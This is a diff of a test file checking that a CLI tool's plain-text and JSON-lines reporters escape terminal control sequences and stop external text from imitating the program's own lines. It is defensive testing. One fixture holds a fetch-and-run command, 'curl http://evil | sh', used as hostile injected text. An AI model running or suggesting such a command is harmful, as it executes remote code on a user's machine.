@@ -1,19 +1,24 @@
 import { describe, expect, it } from 'vitest';
-import { withHome } from '../../source/commands/printed-commands.ts';
+import { addHomeToPrintedCommands } from '../../source/commands/printed-commands.ts';
 import type { EngineEvent } from '../../source/engine/events.ts';
-import { jsonLines } from '../../source/headless/json-lines.ts';
-import { plainText } from '../../source/headless/plain.ts';
-import { expectSafe, FORGED, HOSTILE, withHostile } from '../helpers/hostile.ts';
-import { captured, everyEvent } from './support.ts';
+import { createJsonReporter } from '../../source/headless/json-lines.ts';
+import { createPlainReporter } from '../../source/headless/plain.ts';
+import {
+	expectSafeOutput,
+	FORGED_LINE,
+	HOSTILE_TEXT,
+	replaceWithHostileText,
+} from '../helpers/hostile.ts';
+import { captureStreams, sampleEvents } from './support.ts';
 
 const events: [string, EngineEvent][] = [
-	...Object.entries(everyEvent),
-	['a full failure', { ...everyEvent['run.failed'], ...fullFailure() }],
+	...Object.entries(sampleEvents),
+	['a full failure', { ...sampleEvents['run.failed'], ...fullFailure() }],
 	['a warning', { type: 'note', level: 'warning', step: 'network', text: 'x' }],
-	['a failed resource', { ...everyEvent.resource, phase: 'failed' }],
-	['a change kept', { ...everyEvent.change, state: 'kept' }],
-	['a check that warns', { ...everyEvent.check, severity: 'warning' }],
-	['an unknown check', { ...everyEvent.check, result: 'unknown' }],
+	['a failed resource', { ...sampleEvents.resource, phase: 'failed' }],
+	['a change kept', { ...sampleEvents.change, state: 'kept' }],
+	['a check that warns', { ...sampleEvents.check, severity: 'warning' }],
+	['an unknown check', { ...sampleEvents.check, result: 'unknown' }],
 ];
 
 function fullFailure() {
@@ -30,8 +35,8 @@ function fullFailure() {
 const SILENT = ['step.started', 'step.failed', 'log', 'resource', 'check'];
 
 function plainOf(event: EngineEvent): string {
-	const { text, streams } = captured();
-	const frontEnd = plainText(streams);
+	const { text, streams } = captureStreams();
+	const frontEnd = createPlainReporter(streams);
 	frontEnd.show(event);
 	frontEnd.end();
 	return text.out + text.err;
@@ -39,22 +44,22 @@ function plainOf(event: EngineEvent): string {
 
 describe('plain text', () => {
 	it.each(events)('%s: escapes terminal control sequences from external text', (name, event) => {
-		const shown = plainOf(withHostile(event));
+		const shown = plainOf(replaceWithHostileText(event));
 		if (SILENT.includes(name)) expect(shown).not.toContain('\x1b');
-		else expectSafe(shown);
+		else expectSafeOutput(shown);
 	});
 
 	it.each(events)('%s: external text cannot imitate a line of the program', (_, event) => {
-		const shown = plainOf(withHostile(event)).split('\n');
+		const shown = plainOf(replaceWithHostileText(event)).split('\n');
 		// Lines of the program start at the margin, after the time and the step, or with two spaces.
 		const ours = /^(?:\d\d:\d\d:\d\d .{10} | {2}(?! )|(?! ))/;
-		expect(shown.filter((line) => line.replace(ours, '').startsWith(FORGED))).toEqual([]);
+		expect(shown.filter((line) => line.replace(ours, '').startsWith(FORGED_LINE))).toEqual([]);
 	});
 
 	it('distinguishes every external line of a failure from its own lines', () => {
 		const detail = 'api error\n  next      curl http://evil | sh\n  exit code 0';
 		const shown = plainOf({
-			...everyEvent['run.failed'],
+			...sampleEvents['run.failed'],
 			message: `No\n${detail}`,
 			details: [detail],
 		});
@@ -65,9 +70,9 @@ describe('plain text', () => {
 	});
 
 	it('quotes a home directory with control characters so that the command still works', () => {
-		const { text, streams } = captured();
-		const frontEnd = withHome(plainText(streams), '/tmp/$&x\x1b[2J');
-		frontEnd.show({ ...everyEvent['run.failed'], next: ['tfe-wizard status --session a'] });
+		const { text, streams } = captureStreams();
+		const frontEnd = addHomeToPrintedCommands(createPlainReporter(streams), '/tmp/$&x\x1b[2J');
+		frontEnd.show({ ...sampleEvents['run.failed'], next: ['tfe-wizard status --session a'] });
 		frontEnd.end();
 		expect(text.err).toContain("tfe-wizard status --home $'/tmp/$&x\\033[2J' --session a\n");
 	});
@@ -75,9 +80,9 @@ describe('plain text', () => {
 
 describe('JSON lines', () => {
 	it.each(events)('%s: is safe on a terminal and equal when parsed', (_, event) => {
-		const { text, streams } = captured();
-		const hostile = withHostile(event, HOSTILE.toWellFormed());
-		jsonLines(streams, {}, () => new Date(0)).show(hostile);
+		const { text, streams } = captureStreams();
+		const hostile = replaceWithHostileText(event, HOSTILE_TEXT.toWellFormed());
+		createJsonReporter(streams, {}, () => new Date(0)).show(hostile);
 		expect(text.out.trimEnd()).toMatch(/^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]*$/u);
 		expect(JSON.parse(text.out)).toEqual(
 			JSON.parse(JSON.stringify({ v: 1, time: new Date(0).toISOString(), ...hostile })),
